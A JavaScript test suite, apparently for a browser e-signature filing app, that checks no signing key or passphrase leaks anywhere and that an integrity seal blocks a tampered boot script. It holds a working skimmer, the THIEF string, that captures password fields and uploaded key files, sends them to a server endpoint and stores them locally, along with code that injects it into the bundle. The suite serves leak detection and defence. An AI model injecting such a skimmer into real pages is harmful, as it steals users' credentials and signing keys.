// No byte of the key or of its passphrase leaves the browser or stays behind; and the search that
// says so finds a leak when there is one.

import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';

import { Haystack, scan, storageOf } from '../harness/leak.mjs';
import { newFolder, places, removeFolder } from '../harness/places.mjs';
import { EKU, Scene, claim } from '../harness/scene.mjs';

/** Random bytes are slow to scan, and a filing's files are no secret of the key. */
const PDF_BYTES = 120_000;

async function search(haystack) {
  try {
    return await scan(EKU.key, EKU.passphrase, haystack);
  } finally {
    haystack.remove();
  }
}

claim('nothing of the key or of the passphrase leaves the browser in a whole journey, or stays',
  () => Scene.openEku(),
  async ({ browser, desk, house, person, recorder }, t) => {
    const haystack = new Haystack();
    await person.arrive();
    // A wrong passphrase, a short one and the right one: none may be seen anywhere.
    await person.chooseEfirma();
    await person.field(person.words.passphrase).fill(EKU.passphrase.slice(0, -1));
    await person.button(person.words.enter).click();
    await person.error().waitFor();
    await person.field(person.words.passphrase).fill(EKU.passphrase);
    await person.button(person.words.enter).click();
    await person.heading(person.words.notifications).waitFor();
    await person.compose({ subject: 'Sin fugas', pdfs: [desk.pdf('escrito.pdf', PDF_BYTES)] });
    await person.readyToSign();
    const kept = await storageOf(person.page);
    haystack.addStorage(kept);
    await person.sign();
    await person.receipt();
    for (const name of [person.words.saveReceipt, person.words.saveSigned]) {
      for (const button of await person.button(name).all()) await button.click();
    }
    await browser.downloaded(4);
    // Coming back: the key is gone by design, and is opened once more.
    await person.page.reload();
    await person.compose({ subject: 'Otra vez' });
    await person.unlock();
    await person.button(person.words.openEfirma).click();
    await person.sign();
    await person.receipt();
    await person.button(person.words.lock).click();
    await person.button(person.words.signOut).click();
    await person.heading(person.words.signIn).waitFor();

    haystack.addStorage(await storageOf(person.page));
    const text = JSON.stringify(kept);
    assert(!text.includes('extractable=true'), 'a key that can be exported is kept');
    haystack.add('cookies', JSON.stringify(await browser.context.cookies()));
    await browser.close();
    await house.stop();
    const files = haystack.addProfile(browser).map((file) => path.relative(browser.profile, file));
    for (const folder of ['IndexedDB', 'Local Storage', 'Session']) {
      assert(files.some((file) => file.includes(folder)), `the profile's ${folder} was searched`);
    }
    haystack.addWire(recorder);
    haystack.addConsole(browser);
    haystack.addDownloads(browser);
    haystack.addServers(house);
    assert(recorder.seen('POST /api/v1/filings').length === 2 && recorder.files().length > 20);
    browser.assertAlone();
    const started = Date.now();
    t.diagnostic(`${haystack.names.length} haystacks, ${haystack.bytes} bytes`);
    const { found, said } = await search(haystack);
    t.diagnostic(`${said.replace(/\n/g, ' | ')} (${Date.now() - started} ms)`);
    assert(!found, said);
  }, { timeout: 240_000 });

/** What a thief would add to the script that starts the app: it sends, and keeps for later. */
const THIEF = `
let kept = 0;
const keep = (text) => {
  const opening = indexedDB.open('thief', 1);
  opening.onupgradeneeded = () => opening.result.createObjectStore('loot');
  opening.onsuccess = () => opening.result.transaction('loot', 'readwrite')
    .objectStore('loot').put(text, kept += 1);
};
const send = (text) => {
  fetch('/api/v1/clock?x=' + encodeURIComponent(text));
  localStorage.setItem('loot' + text.length, text);
  keep(text);
};
addEventListener('input', ({ target }) => {
  if (target.id === 'passphrase' || target.type === 'password') send(btoa(target.value));
}, true);
addEventListener('change', async ({ target }) => {
  for (const file of Array.from(target.files ?? [])) {
    const bytes = new Uint8Array(await file.arrayBuffer());
    if (bytes.length < 4096) send(btoa(String.fromCharCode(...bytes)));
  }
}, true);
`;

/** A copy of the bundle whose boot script steals; sealed says whether its integrity is left in. */
function stolenBundle({ sealed }) {
  const dist = newFolder('thief');
  fs.cpSync(places.dist, dist, { recursive: true });
  const patch = (name, change) => {
    const file = path.join(dist, name);
    fs.writeFileSync(file, change(fs.readFileSync(file, 'utf8')));
    for (const packed of ['.br', '.gz']) fs.rmSync(file + packed, { force: true });
  };
  const boots = fs.readdirSync(dist).filter((name) => /^boot.*\.js$/.test(name));
  assert.equal(boots.length, 1, `one boot script in ${places.dist}`);
  // Imports come first in a module.
  patch(boots[0], (script) => script.replace(/^(import[^;]+;\s*)/m, `$1${THIEF}`));
  assert(fs.readFileSync(path.join(dist, boots[0]), 'utf8').includes('btoa'), 'the thief is in');
  if (!sealed) patch('index.html', (page) => page.replace(/\s(data-)?integrity="[^"]*"/g, ''));
  return dist;
}

function openStolen(options) {
  const dist = stolenBundle(options);
  return Scene.openEku({ dist }).then(
    (scene) => Object.assign(scene, { stolen: dist }),
    (error) => {
      removeFolder(dist);
      throw error;
    });
}

claim('a bundle that leaks is caught by the same search', () => openStolen({ sealed: false }),
  async ({ browser, person, recorder, stolen }, t) => {
    removeFolder(stolen);
    await person.arrive();
    await person.signIn();
    const kept = await storageOf(person.page);
    await browser.close();
    for (const [place, gather] of [
      ['on the wire', (haystack) => haystack.addWire(recorder)],
      ['in what the page keeps', (haystack) => haystack.addStorage(kept)],
      ['in the files of the profile', (haystack) => haystack.addProfile(browser)],
    ]) {
      const haystack = new Haystack();
      gather(haystack);
      const { found, said } = await search(haystack);
      t.diagnostic(`${place}: ${said.replace(/\n/g, ' | ').slice(0, 300)}`);
      assert(found, `the leak ${place} was not found`);
      assert.match(said, /keyfile/, `the key was found ${place}`);
      assert.match(said, /pass\./, `the passphrase was found ${place}`);
    }
  });

claim('a changed boot script does not run where its integrity is named', () => openStolen({ sealed: true }),
  async ({ browser, person, stolen }) => {
    await person.page.goto(person.origin);
    await person.page.waitForTimeout(1_500);
    removeFolder(stolen);
    assert.equal(await person.heading(person.words.signIn).count(), 0, 'the app did not start');
    assert(browser.complaints.some((line) => /integrity/i.test(line)), browser.complaints.join('\n'));
  });
